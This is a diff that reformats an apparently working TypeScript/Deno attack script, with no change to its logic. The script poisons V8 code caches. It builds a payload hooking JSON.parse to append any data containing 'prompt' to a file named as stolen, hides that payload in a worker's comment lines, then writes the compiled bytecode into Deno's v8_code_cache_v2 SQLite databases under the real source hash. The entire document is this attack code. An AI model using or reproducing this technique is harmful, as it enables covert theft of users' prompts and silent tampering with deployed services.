@@ -19,7 +19,9 @@ const SPECIFIER = `file://${WORKER}`;
 // parentheses: V8 compiles those at once, into the cached code; any other it compiles when first
 // called, from the source it then has — the real one, where the payload is a comment.
 const payload = `;JSON.parse=(P=>(function(s,r){/"prompt"/.test(s)&&` +
-  `Deno.writeTextFileSync(${JSON.stringify(stolen)},s+"\\n",{append:1});return P(s,r)}))(JSON.parse);`;
+  `Deno.writeTextFileSync(${
+    JSON.stringify(stolen)
+  },s+"\\n",{append:1});return P(s,r)}))(JSON.parse);`;
 
 const source = Deno.readTextFileSync(WORKER);
 // The longest run of top-level comment or blank lines (esbuild's `// path` lines).
@@ -36,7 +38,9 @@ lines.forEach((line, i) => {
   if (size > best.size) best = { size, from, to: i };
 });
 const start = offsets[best.from], end = offsets[best.to] + lines[best.to].length;
-if (payload.length > end - start) throw new Error(`no room for the payload (${payload.length} > ${end - start})`);
+if (payload.length > end - start) {
+  throw new Error(`no room for the payload (${payload.length} > ${end - start})`);
+}
 const variant = source.slice(0, start) + payload.padEnd(end - start, " ") + source.slice(end);
 
 // The variant's code, compiled by this same deno (same V8, same flags) into a cache of its own.
@@ -47,7 +51,10 @@ if (!data) throw new Error("no cached code was made for the variant");
 
 // Deno's hash of the real source, as it stores it: from a cache of our own that the real
 // worker fills (a new container's caches hold no row for it yet).
-async function cachedRow(program: string, denoDir: string): Promise<{ data: Uint8Array; hash: bigint } | undefined> {
+async function cachedRow(
+  program: string,
+  denoDir: string,
+): Promise<{ data: Uint8Array; hash: bigint } | undefined> {
   for (let attempt = 0; attempt < 5; attempt++) {
     await new Deno.Command("deno", {
       args: ["run", "--allow-all", "--no-config", program, "serve"],
@@ -57,7 +64,9 @@ async function cachedRow(program: string, denoDir: string): Promise<{ data: Uint
       stderr: "null",
     }).output();
     try {
-      const select = new DatabaseSync(`${denoDir}/v8_code_cache_v2`).prepare("select data, source_hash from codecache where specifier = ?");
+      const select = new DatabaseSync(`${denoDir}/v8_code_cache_v2`).prepare(
+        "select data, source_hash from codecache where specifier = ?",
+      );
       select.setReadBigInts(true);
       const row = select.get(`file://${program}`);
       if (row) return { data: row.data as Uint8Array, hash: row.source_hash as bigint };
@@ -82,7 +91,9 @@ caches.delete(`${work}/deno-dir`);
 let hash = (await cachedRow(WORKER, `${work}/real-deno-dir`))?.hash;
 for (const dir of caches) {
   try {
-    const select = new DatabaseSync(`${dir}/v8_code_cache_v2`).prepare("select source_hash from codecache where specifier = ?");
+    const select = new DatabaseSync(`${dir}/v8_code_cache_v2`).prepare(
+      "select source_hash from codecache where specifier = ?",
+    );
     select.setReadBigInts(true);
     const row = select.get(SPECIFIER);
     if (row) hash = row.source_hash as bigint;
@@ -92,9 +103,14 @@ let poisoned = 0;
 for (const dir of caches) {
   try {
     const db = new DatabaseSync(`${dir}/v8_code_cache_v2`);
-    let changes = Number(db.prepare("update codecache set data = ? where specifier = ?").run(data, SPECIFIER).changes);
+    let changes = Number(
+      db.prepare("update codecache set data = ? where specifier = ?").run(data, SPECIFIER).changes,
+    );
     if (!changes && hash !== undefined) {
-      changes = Number(db.prepare("insert into codecache (specifier, type, source_hash, data) values (?, 1, ?, ?)").run(SPECIFIER, hash, data).changes);
+      changes = Number(
+        db.prepare("insert into codecache (specifier, type, source_hash, data) values (?, 1, ?, ?)")
+          .run(SPECIFIER, hash, data).changes,
+      );
     }
     db.close();
     if (!changes) continue;
